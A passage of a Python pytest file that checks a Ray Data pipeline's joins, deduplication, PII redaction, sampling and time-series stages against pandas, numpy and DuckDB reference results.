    assert {7, 9} <= set(kept["k"].dropna().astype(int))
    assert kept["k"].notna().all()

    def canon(ds):
        df = ds.to_pandas()
        cols = sorted(df.columns)
        return df[cols].sort_values(cols).reset_index(drop=True)

    pd.testing.assert_frame_equal(
        canon(hash_join_bloom(rd.from_arrow(left_t), rd.from_arrow(right_t),
                              "k", "k2")),
        canon(hash_join(rd.from_arrow(left_t), rd.from_arrow(right_t),
                        "k", "k2", how="inner")),
        check_dtype=False)


def test_partition_kernels_null_group_keys():
    """factorize's -1 code for null keys must label the null group as
    null, not wrap onto the last real key."""
    from series_correction_project_updated_ray.stages.rollup import (
        GroupedMedian)
    from series_correction_project_updated_ray.stages.windows import (
        SessionWindows)
    g = pd.DataFrame({
        "event_type": ["a", "a", None, None, "b"],
        "window_start": np.zeros(5, dtype=np.int64),
        "value": [1.0, 3.0, 100.0, 200.0, 5.0],
    })
    med = GroupedMedian()(g)
    by_key = {k: v for k, v in zip(med["event_type"], med["vmedian"])}
    assert by_key["a"] == 2.0 and by_key["b"] == 5.0
    nulls = med[med["event_type"].isna()]
    assert len(nulls) == 1 and nulls["vmedian"].iloc[0] == 150.0

    s = pd.DataFrame({
        "user_id": [1.0, np.nan, np.nan, 2.0],
        "event_id": [1, 2, 3, 4],
        "ts": pd.to_datetime([0, 10, 10000, 20], unit="s"),
    })
    out = SessionWindows(timeout_s=1800)(s)
    real = out[out["user_id"].notna()]
    assert sorted(real["user_id"].tolist()) == [1.0, 2.0]
    assert (real["session_id"] == 1).all()
    nan_sessions = out[out["user_id"].isna()]
    assert len(nan_sessions) == 2  # gap split within the null group


def test_hash_join_composite_keys(ray_session):
    """Multi-column equi-join vs the pandas reference: shared key name
    collapse, null in any key component never matches, inner and left."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import hash_join
    left_t = pa.table({
        "k": pa.array([1, 1, 2, 2, None], pa.int64()),
        "g": pa.array(["x", "y", "x", "y", "x"]),
        "lv": pa.array([10, 11, 12, 13, 14], pa.int64()),
    })
    right_t = pa.table({
        "k": pa.array([1, 2, 2, 3], pa.int64()),
        "g2": pa.array(["x", "x", None, "y"]),
        "rv": pa.array([100, 200, 201, 300], pa.int64()),
    })
    left, right = left_t.to_pandas(), right_t.to_pandas()

    def ref(how):
        l = left.copy()
        r = right[right[["k", "g2"]].notna().all(axis=1)]
        if how == "inner":
            l = l[l[["k", "g"]].notna().all(axis=1)]
        return l.merge(r, left_on=["k", "g"], right_on=["k", "g2"],
                       how=how)

    for how in ("inner", "left"):
        got = hash_join(rd.from_arrow(left_t), rd.from_arrow(right_t),
                        ["k", "g"], ["k", "g2"], how=how,
                        n_buckets=4).to_pandas()
        want = ref(how)
        assert sorted(got.columns) == sorted(want.columns), how
        g = got.sort_values(["lv"]).reset_index(drop=True)
        w = want.sort_values(["lv"]).reset_index(drop=True)
        def norm(col):
            # engine emits Arrow nulls (None); pandas merge pads with NaN
            vals = col.to_numpy(dtype=object)
            return np.array([None if (v is None or v != v) else v
                             for v in vals], dtype=object)

        for c in sorted(want.columns):
            np.testing.assert_array_equal(
                norm(g[c]), norm(w[c]), err_msg=f"{how}:{c}")


def test_ngram_jaccard_matches_brute_force(ray_session):
    """Default settings (no sampling, no df cap) must equal the exact
    all-pairs n-gram Jaccard computed directly in numpy."""
    import itertools
    import ray.data as rd
    from series_correction_project_updated_ray.functions.text import (
        char_ngram_shingles, jaccard)
    from series_correction_project_updated_ray.stages.dedup import (
        ngram_jaccard_dedup, ngram_jaccard_pairs)
    rng = np.random.default_rng(42)
    words = ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta",
             "theta", "iota", "kappa"]
    base_docs = [" ".join(rng.choice(words, size=40)) for _ in range(12)]
    docs, ids = [], []
    for i, b in enumerate(base_docs):
        docs.append(b); ids.append(i * 10)
        if i % 3 == 0:  # a near-duplicate: one word swapped
            docs.append(b.replace("alpha", "omega", 1))
            ids.append(i * 10 + 1)
    df = pd.DataFrame({"doc_id": ids, "text": docs})

    thr = 0.6
    want = set()
    sh = {d: char_ngram_shingles(t, 5) for d, t in zip(ids, docs)}
    for a, b in itertools.combinations(sorted(ids), 2):
        if jaccard(sh[a], sh[b]) >= thr:
            want.add((a, b))
    assert want  # the fixture must actually contain near-dups

    got = ngram_jaccard_pairs(rd.from_pandas(df), threshold=thr) \
        .to_pandas()
    assert set(zip(got["id_a"], got["id_b"])) == want
    assert (got["id_a"] < got["id_b"]).all()
    # similarity values match the direct computation at 6dp
    for _, r in got.iterrows():
        direct = jaccard(sh[r["id_a"]], sh[r["id_b"]])
        assert abs(r["jaccard"] - direct) < 1e-6

    # clustering contract mirrors minhash_lsh_dedup (singletons omitted)
    clusters = ngram_jaccard_dedup(rd.from_pandas(df), threshold=thr)
    in_pairs = {d for p in want for d in p}
    assert set(clusters["doc_id"]) == in_pairs
    dist = ngram_jaccard_dedup(rd.from_pandas(df), threshold=thr,
                               distributed_cc=True)
    pd.testing.assert_frame_equal(clusters.reset_index(drop=True),
                                  dist.reset_index(drop=True))


def test_ngram_jaccard_df_order_and_bitmap_verify(ray_session):
    """The df-ascending prefix order (rarest-first, from shingle_df_map)
    must return exactly the hash-order result — any fixed global total
    order preserves AllPairs recall — and the small-vocab bitmap verify
    must produce bit-identical similarities to the intersect1d loop."""
    import ray
    import ray.data as rd
    from series_correction_project_updated_ray.functions.text import (
        char_ngram_shingles)
    from series_correction_project_updated_ray.stages.dedup import (
        VerifyJaccardBroadcast, doc_shingle_arrays, ngram_jaccard_pairs,
        shingle_df_map)
    rng = np.random.default_rng(7)
    words = ["alpha", "beta", "gamma", "delta", "epsilon", "zeta"]
    base = [" ".join(rng.choice(words, size=30)) for _ in range(10)]
    docs, ids = [], []
    for i, b in enumerate(base):
        docs.append(b); ids.append(i * 2)
        docs.append(b.replace("alpha", "omega", 1)); ids.append(i * 2 + 1)
    df = pd.DataFrame({"doc_id": ids, "text": docs})

    a = ngram_jaccard_pairs(rd.from_pandas(df), threshold=0.5) \
        .to_pandas().sort_values(["id_a", "id_b"]).reset_index(drop=True)
    b = ngram_jaccard_pairs(rd.from_pandas(df), threshold=0.5,
                            df_order=False) \
        .to_pandas().sort_values(["id_a", "id_b"]).reset_index(drop=True)
    assert len(a) > 0
    pd.testing.assert_frame_equal(a, b)

    # df map: every df ≥ 2, hashes sorted, values equal the direct count
    h, dfc = shingle_df_map(rd.from_pandas(df), text_col="text", ngram=5)
    assert (dfc >= 2).all() and (np.diff(h.astype(np.uint64)) > 0).all()
    per_doc = [char_ngram_shingles(t, 5) for t in docs]
    allsh = np.concatenate(per_doc)
    uniq, cnt = np.unique(allsh, return_counts=True)
    direct = dict(zip(uniq.tolist(), cnt.tolist()))
    for hh, cc in zip(h.tolist(), dfc.tolist()):
        assert direct[hh] == cc

    # bitmap verify == loop verify on the same candidate set
    arrays = doc_shingle_arrays(rd.from_pandas(df), text_col="text",
                                id_col="doc_id", ngram=5).materialize()
    refs = arrays.to_arrow_refs()
    ia, ib = np.meshgrid(ids, ids)
    mask = ia < ib
    pairs = pa.table({"id_a": pa.array(ia[mask]),
                      "id_b": pa.array(ib[mask])})
    fast = VerifyJaccardBroadcast(refs, "doc_id", 0.0)
    assert fast._bm is not None
    slow = VerifyJaccardBroadcast(refs, "doc_id", 0.0,
                                  bitmap_vocab_cap=0)
    assert slow._bm is None
    pd.testing.assert_frame_equal(fast(pairs).to_pandas(),
                                  slow(pairs).to_pandas())


def test_ngram_jaccard_sampling_and_df_cap(ray_session):
    """sample_mod keeps true near-dup recall (shared shingles are kept or
    dropped together); max_df only suppresses hot-bucket candidates."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import (
        ngram_jaccard_pairs)
    base = ("the quick brown fox jumps over the lazy dog and then runs far "
            "away into the deep dark forest to hide from hunters") * 3
    near = base.replace("lazy", "sleepy")
    other = ("completely different content about spark and ray data engines "
             "processing large parquet tables with shuffles") * 3
    df = pd.DataFrame({"doc_id": [1, 2, 3], "text": [base, near, other]})
    sampled = ngram_jaccard_pairs(rd.from_pandas(df), threshold=0.7,
                                  sample_mod=4).to_pandas()
    assert set(zip(sampled["id_a"], sampled["id_b"])) == {(1, 2)}
    # a df cap below the pair's shared-shingle count kills the candidate:
    # every shared shingle of (1,2) sits in a bucket of exactly 2 docs,
    # so max_df=1 suppresses all of them
    capped = ngram_jaccard_pairs(rd.from_pandas(df), threshold=0.7,
                                 max_df=1).to_pandas()
    assert len(capped) == 0


def test_redact_pii_matches_duckdb(ray_session):
    """Engine redaction vs the exact SQL the oracle uses, on texts that
    exercise every pattern and their interactions."""
    import duckdb
    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        redact_pii)
    texts = [
        "contact me at alice.smith+spam@example.co.uk or bob@x.io today",
        "see https://example.com/a?b=c&d=e#frag and http://10.0.0.1/x now",
        "server at 192.168.1.254 port 80; bad ip 999.999.999.999 too",
        "mixed https://u:p@host.com/path then carol@mail.org 8.8.8.8",
        "no pii here, just words and 123.456 numbers",
        "",
        "v1.2.3.4 is a version not inside words but 1.2.3.4 alone matches",
    ]
    df = pd.DataFrame({"doc_id": np.arange(len(texts)), "text": texts})
    got = redact_pii(rd.from_pandas(df)).to_pandas() \
        .sort_values("doc_id").reset_index(drop=True)

    url = r"https?://[^\t\n\f\r ]+"
    email = r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}"
    ip = r"\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"
    con = duckdb.connect()
    con.register("docs", df)
    want = con.execute(f"""
        WITH r1 AS (
          SELECT doc_id,
                 regexp_replace(coalesce(text,''), '{url}', '<URL>', 'g') AS t1,
                 len(regexp_extract_all(coalesce(text,''), '{url}')) AS n_url
          FROM docs
        ), r2 AS (
          SELECT doc_id, n_url,
                 regexp_replace(t1, '{email}', '<EMAIL>', 'g') AS t2,
                 len(regexp_extract_all(t1, '{email}')) AS n_email
          FROM r1
        )
        SELECT doc_id, regexp_replace(t2, '{ip}', '<IP>', 'g') AS text_redacted,
               n_url, n_email, len(regexp_extract_all(t2, '{ip}')) AS n_ip
        FROM r2 ORDER BY doc_id
    """).df()
    # sanity: the fixture actually redacts things
    assert want["n_url"].sum() >= 3 and want["n_email"].sum() >= 3 \
        and want["n_ip"].sum() >= 3
    for c in ["text_redacted", "n_url", "n_email", "n_ip"]:
        np.testing.assert_array_equal(got[c].to_numpy(), want[c].to_numpy(),
                                      err_msg=c)


def test_repetition_features_edges(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        repetition_features)
    df = pd.DataFrame({"doc_id": [1, 2, 3, 4],
                       "text": ["", "word", "a b a b a b",
                                "x y z x y z x y z end"]})
    got = repetition_features(rd.from_pandas(df)).to_pandas() \
        .sort_values("doc_id").reset_index(drop=True)
    # '' splits to [''] (regexp_split_to_array semantics) -> 1 "word"
    assert got.loc[0, "n_words"] == 1 and got.loc[0, "top_word_frac"] == 1.0
    assert got.loc[1, ["top_bigram_frac", "dup_trigram_frac"]].tolist() \
        == [0.0, 0.0]
    # "a b a b a b": bigrams [ab,ba,ab,ba,ab] -> top 3/5; trigrams
    # [aba,bab,aba,bab] -> 2 distinct of 4 -> dup 0.5
    assert got.loc[2, "top_bigram_frac"] == 0.6
    assert got.loc[2, "dup_trigram_frac"] == 0.5
    # 10 words: top word 3/10; 8 trigrams, distinct {xyz,yzx,zxy,"y z end"}
    # = 4 -> dup = 1 - 4/8
    assert got.loc[3, "top_word_frac"] == 0.3
    assert got.loc[3, "dup_trigram_frac"] == 0.5


def test_gap_fill_group_flags_and_values(ray_session):
    """gap_filled_series inserts linspace times with NaN->positional
    interp; flags mark exactly the synthesized rows."""
    import ray.data as rd
    from series_correction_project_updated_ray import kernels as K
    from series_correction_project_updated_ray.stages.events_series import (
        gap_filled_series)
    # step 10, one gap of 40 (3 missing), one non-gap jitter
    t = np.array([0, 10, 20, 60, 70], dtype=np.int64)
    v = np.array([1.0, 2.0, 3.0, 7.0, 8.0])
    df = pd.DataFrame({"user_id": ["u"] * 5, "event_id": np.arange(5),
                       "ts": t, "value": v})
    out = gap_filled_series(rd.from_pandas(df)).to_pandas() \
        .sort_values("t").reset_index(drop=True)
    gaps = K.detect_gaps(t)
    t2, v2 = K.correct_gaps(t, v, gaps)
    np.testing.assert_array_equal(out["t"].to_numpy(), t2)
    np.testing.assert_allclose(out["value_filled"].to_numpy(), v2,
                               atol=5e-7)
    assert out["inserted"].tolist() == [False, False, False, True, True,
                                        True, False, False]
    # interpolated values sit on the line between 3.0 and 7.0
    np.testing.assert_allclose(
        out.loc[out["inserted"], "value_filled"], [4.0, 5.0, 6.0])


def test_simhash_near_dup_small_hamming(ray_session):
    """Near-duplicate texts land within a small hamming distance; an
    unrelated text doesn't. Signature is deterministic across runs."""
    import ray.data as rd
    from series_correction_project_updated_ray.functions.hashing import (
        hamming_distance64)
    from series_correction_project_updated_ray.stages.dedup import (
        SimHashStage)
    base = ("the quick brown fox jumps over the lazy dog and then runs far "
            "away into the deep dark forest to hide from hunters") * 3
    near = base.replace("lazy", "sleepy")
    other = ("completely different content about spark and ray data engines "
             "processing large parquet tables with shuffles") * 3
    df = pd.DataFrame({"doc_id": [1, 2, 3], "text": [base, near, other]})

    def run():
        out = rd.from_pandas(df).map_batches(
            SimHashStage, batch_format="pyarrow",
            concurrency=1).to_pandas().sort_values("doc_id")
        return out["simhash"].to_numpy().astype(np.uint64)

    a = run()
    np.testing.assert_array_equal(a, run())
    d_near = hamming_distance64(a[:1], a[1:2])[0]
    d_far = hamming_distance64(a[:1], a[2:3])[0]
    assert d_near <= 12 and d_far > d_near


def test_stratified_hash_sample_rates_and_nesting(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        hash_sample, stratified_hash_sample)
    n = 4000
    df = pd.DataFrame({"k": np.arange(n),
                       "g": np.where(np.arange(n) % 2 == 0, "keep_all",
                                     "keep_some")})
    ds = rd.from_pandas(df)
    out = stratified_hash_sample(ds, "k", "g",
                                 {"keep_all": 1.0, "keep_some": 0.2}) \
        .to_pandas()
    full = out[out["g"] == "keep_all"]
    some = out[out["g"] == "keep_some"]
    assert len(full) == n // 2                  # rate 1.0 keeps everything
    assert 0.1 * n / 2 < len(some) < 0.3 * n / 2
    # unseen groups fall back to default_rate=0.0 -> dropped entirely
    assert set(out["g"]) == {"keep_all", "keep_some"}
    # nesting: a row kept at 0.2 is kept at any higher rate (same hash)
    flat20 = hash_sample(ds, "k", 0.2).to_pandas()
    assert set(some["k"]).issubset(set(flat20["k"]))


def test_stratified_sample_null_groups_get_default(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        stratified_hash_sample)
    t = pa.table({"k": pa.array(range(200), pa.int64()),
                  "g": pa.array((["a", None] * 100))})
    out = stratified_hash_sample(rd.from_arrow(t), "k", "g",
                                 {"a": 1.0}, default_rate=0.0).to_pandas()
    assert len(out) == 100 and out["g"].notna().all()
    # an ALL-null group batch must not crash (factorize codes -1 only);
    # keys start at 1 — stable_hash(0) is 0, and the keep rule is the
    # inclusive h <= threshold the SQL oracle uses, so rate 0.0 would
    # legitimately keep the zero-hash key
    t2 = pa.table({"k": pa.array(range(1, 51), pa.int64()),
                   "g": pa.array([None] * 50, pa.string())})
    out2 = stratified_hash_sample(rd.from_arrow(t2), "k", "g",
                                  {"a": 1.0}, default_rate=0.0).to_pandas()
    assert len(out2) == 0


def test_dedup_wrappers_handle_zero_pairs(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import (
        minhash_lsh_dedup, ngram_jaccard_dedup)
    df = pd.DataFrame({"doc_id": [1, 2, 3],
                       "text": ["alpha beta gamma " * 5,
                                "delta epsilon zeta " * 5,
                                "eta theta iota " * 5]})
    got = ngram_jaccard_dedup(rd.from_pandas(df), max_df=1)
    assert len(got) == 0 and list(got.columns) == ["doc_id", "cluster_id"]
    got2 = minhash_lsh_dedup(rd.from_pandas(df), threshold=0.99)
    assert len(got2) == 0


def test_hash_join_same_name_cross_position_keys(ray_session):
    """Key names shared at DIFFERENT positions (or doubling as the other
    side's non-key column) must be suffixed, not silently union-typed."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import hash_join
    left_t = pa.table({"a": pa.array([1, 2], pa.int64()),
                       "b": pa.array(["x", "y"])})
    right_t = pa.table({"b": pa.array([1, 2, 3], pa.int64()),
                        "a": pa.array(["p", "q", "r"]),
                        "rv": pa.array([10, 20, 30], pa.int64())})
    out_ds = hash_join(rd.from_arrow(left_t), rd.from_arrow(right_t),
                       ["a", "b"], ["b", "a"], how="inner",
                       n_buckets=4).materialize()
    # match requires left.a == right.b AND left.b == right.a: none here
    # (schema asserted on the Dataset — to_pandas of an all-empty
    # dataset loses columns)
    assert out_ds.count() == 0
    assert sorted(out_ds.schema().names) == ["a_l", "a_r", "b_l", "b_r",
                                             "rv"]
    # and a case with real matches
    right2 = pa.table({"b": pa.array([1, 2], pa.int64()),
                       "a": pa.array(["x", "zz"]),
                       "rv": pa.array([10, 20], pa.int64())})
    out2 = hash_join(rd.from_arrow(left_t), rd.from_arrow(right2),
                     ["a", "b"], ["b", "a"], how="inner",
                     n_buckets=4).to_pandas()
    assert len(out2) == 1
    assert out2.iloc[0]["a_l"] == 1 and out2.iloc[0]["b_l"] == "x" \
        and out2.iloc[0]["rv"] == 10


def test_gather_join_semantics(ray_session):
    import pytest
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import gather_join
    tgt = pa.table({"k": pa.array([1, 2, None, 4, 2], pa.int64()),
                    "v": pa.array(["a", "b", "c", "d", "e"])})
    src = pa.table({"id": pa.array([1, 2, None], pa.int64()),
                    "payload": pa.array([[10, 11], [20], [99]],
                                        pa.list_(pa.int64()))})
    out = gather_join(rd.from_arrow(tgt), rd.from_arrow(src),
                      "k", "id", ["payload"], n_buckets=4).to_pandas()
    # inner: k=4 unmatched dropped; NULL keys never match (neither side)
    out = out.sort_values(["k", "v"]).reset_index(drop=True)
    assert list(out["k"]) == [1, 2, 2]
    assert [list(p) for p in out["payload"]] == [[10, 11], [20], [20]]
    # attach-name clash raises
    with pytest.raises(ValueError):
        gather_join(rd.from_arrow(tgt), rd.from_arrow(
            pa.table({"id": pa.array([1], pa.int64()),
                      "v": pa.array(["x"])})), "k", "id")
    # duplicate source keys violate the unique-key contract loudly
    dup = pa.table({"id": pa.array([1, 1], pa.int64()),
                    "payload": pa.array([[1], [2]], pa.list_(pa.int64()))})
    with pytest.raises(Exception):
        gather_join(rd.from_arrow(tgt), rd.from_arrow(dup),
                    "k", "id", n_buckets=1).materialize()


def test_ngram_jaccard_gather_fallback_matches_broadcast(ray_session):
    """Past the broadcast cap the gather-join verify plan must produce
    the identical pair set and similarities."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import (
        ngram_jaccard_pairs)
    rng = np.random.default_rng(7)
    words = ["alpha", "beta", "gamma", "delta", "epsilon"]
    docs, ids = [], []
    for i in range(10):
        t = " ".join(rng.choice(words, size=30))
        docs.append(t); ids.append(i)
        docs.append(t.replace("alpha", "omega", 1)); ids.append(100 + i)
    df = pd.DataFrame({"doc_id": ids, "text": docs})
    via_bcast = ngram_jaccard_pairs(rd.from_pandas(df), threshold=0.6) \
        .to_pandas().sort_values(["id_a", "id_b"]).reset_index(drop=True)
    via_gather = ngram_jaccard_pairs(rd.from_pandas(df), threshold=0.6,
                                     broadcast_limit_bytes=0) \
        .to_pandas().sort_values(["id_a", "id_b"]).reset_index(drop=True)
    assert len(via_bcast) > 0
    pd.testing.assert_frame_equal(via_bcast, via_gather)


def test_lag_deltas_small(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.windows import lag_deltas
    ts = pd.to_datetime([1, 2, 5, 3, 7], unit="s")
    df = pd.DataFrame({"user_id": ["u1", "u1", "u1", "u2", "u2"],
                       "event_id": [1, 2, 3, 4, 5],
                       "ts": ts,
                       "value": [1.00, 2.50, 2.00, 10.00, 9.25]})
    out = lag_deltas(rd.from_pandas(df)).to_pandas() \
        .sort_values(["user_id", "t"]).reset_index(drop=True)
    assert out["dv"].isna().tolist() == [True, False, False, True, False]
    assert out["dv"].dropna().tolist() == [1.5, -0.5, -0.75]
    assert out["dt_us"].dropna().tolist() == [1e6, 3e6, 4e6]


def test_value_histogram_and_zscore(ray_session):
    import duckdb
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        value_histogram, zscore_events)
    rng = np.random.default_rng(3)
    df = pd.DataFrame({
        "event_id": np.arange(1000, dtype=np.int64),
        "event_type": rng.choice(["a", "b", "c"], 1000),
        "value": np.round(rng.uniform(0, 300, 1000), 2)})
    con = duckdb.connect()
    con.register("events_df", df)

    hist = value_histogram(rd.from_pandas(df), width_cents=5000) \
        .to_pandas().sort_values(["event_type", "bin"]).reset_index(drop=True)
    want = con.execute("""
        WITH b AS (SELECT event_type,
          CAST(floor(CAST(round(value*100) AS BIGINT)/5000.0) AS BIGINT) AS bin
          FROM events_df)
        SELECT event_type, bin, CAST(COUNT(*) AS BIGINT) AS n, bin*50.0 AS bin_lo
        FROM b GROUP BY 1,2 ORDER BY 1,2""").df()
    pd.testing.assert_frame_equal(hist, want)

    z = zscore_events(rd.from_pandas(df)).to_pandas() \
        .sort_values("event_id").reset_index(drop=True)
    wantz = con.execute("""
        WITH c AS (SELECT event_id, event_type,
                          CAST(round(value*100) AS BIGINT) AS cents FROM events_df),
        s AS (SELECT event_type, COUNT(*) AS n, CAST(SUM(cents) AS DOUBLE) AS sc,
                     CAST(SUM(cents*cents) AS DOUBLE) AS sq FROM c GROUP BY 1)
        SELECT c.event_id, c.event_type,
               round((CAST(c.cents AS DOUBLE)-sc/n)/sqrt(sq/n-(sc/n)*(sc/n)),6) AS z
        FROM c JOIN s USING (event_type) ORDER BY event_id""").df()
    assert (z["z"] == wantz["z"]).all()


def test_tfidf_and_common_ngram_removal(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        remove_common_ngrams, tfidf_top_term)
    docs = pd.DataFrame({
        "doc_id": np.arange(6, dtype=np.int64),
        "text": ["the cat sat on the mat",
                 "the cat sat on a hat",
                 "the cat sat quietly here",
                 "dogs bark loudly at night",
                 "birds sing the cat sat songs",
                 ""]})
    tf = tfidf_top_term(rd.from_pandas(docs)).to_pandas() \
        .sort_values("doc_id").reset_index(drop=True)
    # empty doc emits no row
    assert set(tf["doc_id"]) == {0, 1, 2, 3, 4}
    # doc 3 shares no term with others: every term df=1, tf=1 ->
    # identical scores, tie broken by term asc -> 'at'
    assert tf.loc[tf["doc_id"] == 3, "term"].iloc[0] == "at"

    # 'the cat sat' appears in 4 distinct docs -> common at min_df=4;
    # covered tokens drop, others survive
    out = remove_common_ngrams(rd.from_pandas(docs), n=3, min_df=4) \
        .to_pandas().sort_values("doc_id").reset_index(drop=True)
    assert out.loc[0, "clean_text"] == "on the mat"
    assert out.loc[0, "n_removed"] == 3
    assert out.loc[3, "clean_text"] == "dogs bark loudly at night"
    assert out.loc[3, "n_removed"] == 0
    # doc 4: gram starts at position 2 -> covers tokens 2,3,4
    assert out.loc[4, "clean_text"] == "birds sing songs"
    assert out.loc[5, "clean_text"] == "" and out.loc[5, "n_removed"] == 0


def test_user_event_sequences_and_quartiles(ray_session):
    import duckdb
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        value_quartiles)
    from series_correction_project_updated_ray.stages.windows import (
        user_event_sequences)
    rng = np.random.default_rng(11)
    n = 500
    df = pd.DataFrame({
        "user_id": rng.choice(["u1", "u2", "u3"], n),
        "event_id": np.arange(n, dtype=np.int64),
        "event_type": rng.choice(["click", "view", "purchase"], n),
        "ts": pd.to_datetime(rng.integers(0, 10000, n), unit="s"),
        # duplicate cents values on purpose: tie-breaks must match SQL
        "value": np.round(rng.integers(0, 50, n) / 4.0, 2)})
    con = duckdb.connect()
    con.register("ev", df)

    seq = user_event_sequences(rd.from_pandas(df)).to_pandas() \
        .sort_values("user_id").reset_index(drop=True)
    want = con.execute("""
        SELECT user_id, string_agg(event_type, '->' ORDER BY ts, event_id)
                 AS seq,
               CAST(COUNT(*) AS BIGINT) AS n_events
        FROM ev GROUP BY 1 ORDER BY 1""").df()
    pd.testing.assert_frame_equal(seq, want)

    q = value_quartiles(rd.from_pandas(df), k=4).to_pandas() \
        .sort_values("event_id").reset_index(drop=True)
    wantq = con.execute("""
        SELECT event_id,
               CAST(CAST(round(value*100) AS BIGINT) AS DOUBLE)/100.0
                 AS value,
               row_number() OVER (ORDER BY round(value*100), event_id) - 1
                 AS rnk,
               CAST(ntile(4) OVER (ORDER BY round(value*100), event_id)
                    AS BIGINT) AS quartile
        FROM ev ORDER BY event_id""").df()
    pd.testing.assert_frame_equal(q, wantq)
    # n % k != 0 path: 7 rows into 4 buckets -> sizes 2,2,2,1
    small = df.head(7)
    con.register("ev7", small)
    q7 = value_quartiles(rd.from_pandas(small.copy()), k=4).to_pandas()
    sizes = q7["quartile"].value_counts().sort_index().tolist()
    assert sizes == [2, 2, 2, 1]


def test_embedding_centroid_dist_exact(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.similarity import (
        embedding_centroid_dist)
    rng = np.random.default_rng(5)
    n, d = 200, 16
    m = (rng.standard_normal((n, d)) * 0.3).astype(np.float32)
    labels = rng.integers(0, 3, n).astype(np.int32)
    t = pa.table({
        "vec_id": pa.array(np.arange(n, dtype=np.int64)),
        "embedding": pa.array(list(m), pa.list_(pa.float32())),
        "label": pa.array(labels)})
    out = embedding_centroid_dist(rd.from_arrow(t)).to_pandas() \
        .sort_values("vec_id").reset_index(drop=True)
    # direct replication: scaled-int centroid, sequential reduction
    SCALE = float(1 << 20)
    md = m.astype(np.float64)
    scaled = np.copysign(np.floor(np.abs(md) * SCALE + 0.5), md) \
        .astype(np.int64)
    for lab in np.unique(labels):
        rows = np.flatnonzero(labels == lab)
        cent = (scaled[rows].sum(axis=0).astype(np.float64) / SCALE) \
            / float(len(rows))
        diff = md[rows] - cent
        want = np.sqrt(np.cumsum(diff * diff, axis=1)[:, -1])
        from series_correction_project_updated_ray.functions.rounding import round_half_away
        got = out.set_index("vec_id").loc[rows, "dist"].to_numpy()
        assert (got == round_half_away(want, 6)).all()


def test_zscore_zero_variance_groups_null(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        zscore_events)
    df = pd.DataFrame({
        "event_id": np.arange(5, dtype=np.int64),
        "event_type": ["solo", "const", "const", "ok", "ok"],
        "value": [5.00, 2.00, 2.00, 1.00, 3.00]})
    z = zscore_events(rd.from_pandas(df)).to_pandas() \
        .sort_values("event_id").reset_index(drop=True)
    # singleton and constant groups -> NULL (oracle CASE WHEN var > 0)
    assert z["z"].isna().tolist() == [True, True, True, False, False]
    assert z.loc[3, "z"] == -1.0 and z.loc[4, "z"] == 1.0


def test_remove_common_ngrams_normalizes_short_docs(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        remove_common_ngrams)
    docs = pd.DataFrame({"doc_id": np.arange(2, dtype=np.int64),
                         "text": ["a\tb", "x  y"]})
    out = remove_common_ngrams(rd.from_pandas(docs), n=3, min_df=2) \
        .to_pandas().sort_values("doc_id").reset_index(drop=True)
    # short docs (< n tokens) still re-join with single spaces, like
    # the oracle's string_agg
    assert out["clean_text"].tolist() == ["a b", "x y"]
    assert out["n_removed"].tolist() == [0, 0]


def test_ohlc_bars_anchors_across_blocks(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.rollup import ohlc_bars
    # two blocks; the TRUE open of the window lives in block 2 (earlier
    # ts), so the merge must pick anchors across partials, not per block
    b1 = pd.DataFrame({"user_id": ["u"] * 3, "event_id": [10, 11, 12],
                       "ts": pd.to_datetime([200, 300, 400], unit="s"),
                       "value": [5.00, 9.00, 2.00]})
    b2 = pd.DataFrame({"user_id": ["u"] * 2, "event_id": [1, 2],
                       "ts": pd.to_datetime([100, 3500], unit="s"),
                       "value": [7.00, 4.00]})
    ds = rd.from_pandas(b1).union(rd.from_pandas(b2))
    out = ohlc_bars(ds, width=3600).to_pandas()
    assert len(out) == 1
    r = out.iloc[0]
    assert r["open"] == 7.00    # ts=100 from block 2
    assert r["close"] == 4.00   # ts=3500 from block 2
    assert r["high"] == 9.00 and r["low"] == 2.00 and r["n"] == 5
    # tie on ts: event_id breaks it
    tie = pd.DataFrame({"user_id": ["u", "u"], "event_id": [2, 1],
                        "ts": pd.to_datetime([50, 50], unit="s"),
                        "value": [1.00, 3.00]})
    out2 = ohlc_bars(rd.from_pandas(tie), width=3600).to_pandas()
    assert out2.iloc[0]["open"] == 3.00 and out2.iloc[0]["close"] == 1.00


def test_time_weighted_avg_edges(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.windows import (
        time_weighted_avg)
    df = pd.DataFrame({
        "user_id": ["a", "a", "a", "b", "c", "c"],
        "event_id": [1, 2, 3, 4, 5, 6],
        # a: 3 points in one hour; b: single point; c: two points at the
        # SAME instant (zero span)
        "ts": pd.to_datetime([0, 100, 200, 50, 70, 70], unit="s"),
        "value": [1.00, 3.00, 5.00, 9.00, 2.00, 4.00]})
    out = time_weighted_avg(rd.from_pandas(df), width_s=3600) \
        .to_pandas().sort_values("user_id").reset_index(drop=True)
    # a: trapezoid of (1,3) over 100s + (3,5) over 100s = (100*4 +
    # 100*8)/2 / 200 = 3.0
    assert out.loc[0, "twa"] == 3.0 and out.loc[0, "n"] == 3
    assert np.isnan(out.loc[1, "twa"]) and out.loc[1, "n"] == 1
    assert np.isnan(out.loc[2, "twa"]) and out.loc[2, "n"] == 2


def test_window_trend_known_slope(ray_session):
